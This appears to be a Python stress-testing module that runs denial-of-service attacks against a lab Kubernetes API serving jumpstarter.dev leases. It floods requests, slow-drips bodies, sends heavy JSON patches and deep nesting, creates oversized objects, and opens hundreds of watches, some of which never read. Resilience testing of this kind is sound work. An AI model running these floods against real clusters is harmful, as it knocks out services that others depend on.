"""Attacks by a client on the standalone Kubernetes API."""

import asyncio
import json
import socket
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from contextlib import asynccontextmanager, suppress
from typing import Any

import aiohttp

from tools.abuse.strangers import Counts
from tools.abuse.target import CLIENT, NAMESPACE, Target, host_and_port

_LEASES = f"/apis/jumpstarter.dev/v1alpha1/namespaces/{NAMESPACE}/leases"
_IN_FLIGHT = 64
_PAUSE_SECONDS = 0.2
_BODIES = 500
_WATCHES = 300


@asynccontextmanager
async def _session(target: Target) -> AsyncIterator[aiohttp.ClientSession]:
    headers = {"Authorization": f"Bearer {target.client_token}"}
    connector = aiohttp.TCPConnector(ssl=target.tls(), limit=0)
    timeout = aiohttp.ClientTimeout(total=None)
    url = f"https://{target.api}"
    async with aiohttp.ClientSession(url, headers=headers, connector=connector, timeout=timeout) as session:
        yield session


async def full_speed(target: Target, counts: Counts) -> None:
    """Requests as fast as they are answered, 64 at a time."""
    async with _session(target) as session:
        await _at_full_speed(lambda _: _ask(session, "GET", _LEASES, counts))


async def strangers_requests(target: Target, counts: Counts) -> None:
    """Requests with a token that nobody knows, as fast as they are refused."""
    headers = {"Authorization": "Bearer eyJhbGciOiJFUzI1NiJ9.e30.x"}
    async with _session(target) as session:
        await _at_full_speed(lambda _: _ask(session, "GET", _LEASES, counts, headers=headers))


async def slow_bodies(target: Target, counts: Counts) -> None:
    """500 requests whose bodies come by a byte a second."""
    head = (
        f"POST {_LEASES} HTTP/1.1\r\nHost: lab\r\nAuthorization: Bearer {target.client_token}\r\n"
        "Content-Type: application/json\r\nContent-Length: 3000000\r\n\r\n"
    )

    async def send() -> None:
        while True:
            with suppress(OSError):
                _, writer = await asyncio.open_connection(*host_and_port(target.api), ssl=target.tls())
                writer.write(head.encode() + b" " * 2_900_000)
                counts["bodies"] += 1
                while not writer.is_closing():
                    writer.write(b" ")
                    await asyncio.sleep(1)
                counts["ended bodies"] += 1
            await asyncio.sleep(_PAUSE_SECONDS)

    async with asyncio.TaskGroup() as tasks:
        for number in range(_BODIES):
            tasks.create_task(send(), name=f"body {number}")


async def heavy_requests(target: Target, counts: Counts) -> None:
    """Patches and selectors that are much work for their size."""
    copies = [{"op": "add", "path": "/metadata/annotations", "value": {"a": "x"}}] + [
        {"op": "copy", "from": "/metadata", "path": f"/metadata/annotations/{number}"} for number in range(10_000)
    ]
    deep = "[" * 100_000
    tests = [{"op": "test", "path": "/metadata/name", "value": target.lease}] * 50_000
    wide = {"metadata": {"annotations": {f"a{number}": "x" for number in range(100_000)}}}
    selector = ",".join(f"key-{number}!=x" for number in range(600))
    one = f"{_LEASES}/{target.lease}"
    tries: list[tuple[str, str, str, str]] = [
        ("PATCH", one, "application/json-patch+json", json.dumps(copies)),
        ("PATCH", one, "application/json-patch+json", json.dumps(tests)),
        ("PATCH", one, "application/merge-patch+json", json.dumps(wide)),
        ("PATCH", one, "application/merge-patch+json", deep),
        ("POST", _LEASES, "application/json", deep),
        ("GET", f"{_LEASES}?labelSelector={selector}", "application/json", ""),
        ("GET", f"{_LEASES}?fieldSelector={'metadata.name!=x,' * 400}metadata.name!=y", "application/json", ""),
    ]
    async with _session(target) as session:

        async def send(turn: int) -> None:
            method, path, media_type, body = tries[turn % len(tries)]
            await _ask(session, method, path, counts, data=body.encode(), headers={"Content-Type": media_type})

        await _at_full_speed(send)


async def large_objects(target: Target, counts: Counts) -> None:
    """Leases with annotations and labels up to their limits and above, with finalizers and without."""
    annotations = {f"a{number}": "x" * 50_000 for number in range(5)}
    spec = {"clientRef": {"name": CLIENT}, "duration": "1h", "selector": {"matchLabels": {"board": "none"}}}
    shapes: list[Mapping[str, Any]] = [
        {"annotations": annotations},
        {"annotations": {f"a{number}": "x" * 50_000 for number in range(60)}},
        {"finalizers": ["acme.example/never"]},
        {"labels": {f"l{number}": "x" for number in range(30_000)}},
    ]
    async with _session(target) as session:

        async def send(turn: int) -> None:
            metadata = {"generateName": "large-", **shapes[turn % len(shapes)]}
            body = {"apiVersion": "jumpstarter.dev/v1alpha1", "kind": "Lease", "metadata": metadata, "spec": spec}
            await _ask(session, "POST", _LEASES, counts, json=body)

        await _at_full_speed(send)


async def many_watches(target: Target, counts: Counts) -> None:
    """300 watches that are followed, while an object changes as often as may be."""
    async with _session(target) as session:

        async def watch() -> None:
            while True:
                with suppress(aiohttp.ClientError):
                    async with session.get(f"{_LEASES}?watch=true") as answer:
                        counts["watches" if answer.status == 200 else "refused"] += 1
                        async for _ in answer.content:
                            counts["lines"] += 1
                await asyncio.sleep(_PAUSE_SECONDS)

        async with asyncio.TaskGroup() as tasks:
            for number in range(_WATCHES):
                tasks.create_task(watch(), name=f"watch {number}")
            tasks.create_task(_change(session, target, counts), name="changes")


async def slow_watches(target: Target, counts: Counts) -> None:
    """300 watches that read nothing, while an object changes as often as may be."""
    head = f"GET {_LEASES}?watch=true HTTP/1.1\r\nHost: lab\r\nAuthorization: Bearer {target.client_token}\r\n\r\n"

    async def watch() -> None:
        while True:
            with suppress(OSError):
                small = socket.socket()
                small.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                small.setblocking(False)
                await asyncio.get_running_loop().sock_connect(small, host_and_port(target.api))
                tls, name = target.tls(), host_and_port(target.api)[0]
                _, writer = await asyncio.open_connection(sock=small, ssl=tls, server_hostname=name, limit=1024)
                writer.write(head.encode())
                counts["watches"] += 1
                await asyncio.Event().wait()
            await asyncio.sleep(_PAUSE_SECONDS)

    async with _session(target) as session, asyncio.TaskGroup() as tasks:
        for number in range(_WATCHES):
            tasks.create_task(watch(), name=f"watch {number}")
        tasks.create_task(_change(session, target, counts), name="changes")


async def upgrades(target: Target, counts: Counts) -> None:
    """Requests for WebSocket and SPDY, which the API has no use for."""
    async with _session(target) as session:

        async def send(turn: int) -> None:
            kind = ("websocket", "SPDY/3.1", "h2c")[turn % 3]
            more = {
                "Connection": "Upgrade",
                "Upgrade": kind,
                "Sec-WebSocket-Key": "x" * 24,
                "Sec-WebSocket-Version": "13",
            }
            await _ask(session, "GET", f"{_LEASES}?watch=true&timeoutSeconds=1", counts, headers=more)

        await _at_full_speed(send)


async def _change(session: aiohttp.ClientSession, target: Target, counts: Counts) -> None:
    """Changes an annotation of 100 KiB again and again."""
    headers = {"Content-Type": "application/merge-patch+json"}
    turn = 0
    while True:
        turn += 1
        patch = {"metadata": {"annotations": {"text": f"{turn}" + "x" * 100_000}}}
        await _ask(session, "PATCH", f"{_LEASES}/{target.lease}", counts, json=patch, headers=headers)


async def _ask(session: aiohttp.ClientSession, method: str, path: str, counts: Counts, **more: Any) -> None:
    try:
        async with session.request(method, path, **more) as answer:
            await answer.read()
            counts[f"answers {answer.status}"] += 1
    except aiohttp.ClientError:
        counts["no answer"] += 1
        await asyncio.sleep(_PAUSE_SECONDS)


async def _at_full_speed(call: Callable[[int], Awaitable[object]]) -> None:
    async def again(number: int) -> None:
        turn = number
        while True:
            await call(turn)
            turn += 1

    async with asyncio.TaskGroup() as tasks:
        for number in range(_IN_FLIGHT):
            tasks.create_task(again(number), name=f"caller {number}")
